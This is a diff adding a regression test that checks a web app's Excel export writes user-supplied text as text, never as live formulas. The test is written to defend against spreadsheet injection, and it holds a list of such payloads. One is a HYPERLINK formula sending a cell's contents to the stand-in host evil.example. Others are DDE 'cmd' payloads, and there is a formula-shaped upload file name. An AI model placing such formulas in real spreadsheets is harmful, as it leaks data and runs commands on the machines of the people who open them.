@@ -256,3 +256,62 @@ def test_a_key_given_twice_is_refused(monitor, raw, where):
     ).encode()
     assert _post_raw(client, keys.a, "/api/monitor/submissions", ok).status_code == 201
 
+
+HOSTILE_TEXTS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
+
+
+def _sheets(raw: bytes) -> dict[str, bytes]:
+    import io
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
+        return {n: archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")}
+
+
+def test_the_excel_export_writes_texts_as_text_never_as_formulas(monitor):
+    """A project title '=HYPERLINK(…)' was written as a live formula into the export of every
+    reader (programme staff, its own company); '+', '-' and '@' texts became formulas once the
+    reader edited the cell."""
+    import io
+
+    from openpyxl import Workbook, load_workbook
+
+    client, keys, _app = monitor
+    body = _project_body("A-1", title=HOSTILE_TEXTS[0], partners=HOSTILE_TEXTS[1:])
+    assert (
+        client.post("/api/monitor/projects", json=body, headers=headers(keys.a)).status_code == 201
+    )
+    # an upload whose file name is a formula (kept as provenance, exported)
+    book = Workbook()
+    book.active.title = "values"
+    book.active.append(["project", "year", "kpi", "value", "unit"])
+    book.active.append(["A-1", 2027, SHARE, 0.1, "1"])
+    raw = io.BytesIO()
+    book.save(raw)
+    name = "=1+1.xlsx"
+    response = client.post(
+        "/api/monitor/uploads", files={"file": (name, raw.getvalue())}, headers=headers(keys.a)
+    )
+    assert response.status_code == 201, response.text
+    for key in (keys.a, keys.programme):
+        for path in ("/api/monitor/export.xlsx", "/api/monitor/template.xlsx"):
+            exported = client.get(path, headers=headers(key)).content
+            for sheet, xml in _sheets(exported).items():
+                assert b"<f>" not in xml and b"<f " not in xml, (path, sheet)
+            found = set()
+            for sheet in load_workbook(io.BytesIO(exported)).worksheets:
+                for row in sheet.iter_rows():
+                    for cell in row:
+                        assert cell.data_type != "f", (path, sheet.title, cell.coordinate)
+                        if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
+                            assert cell.quotePrefix, (path, sheet.title, cell.coordinate)
+                            found.add(cell.value)
+            # the texts are there, as typed
+            assert HOSTILE_TEXTS[0] in found, path
+            if path.endswith("export.xlsx"):
+                assert name in found
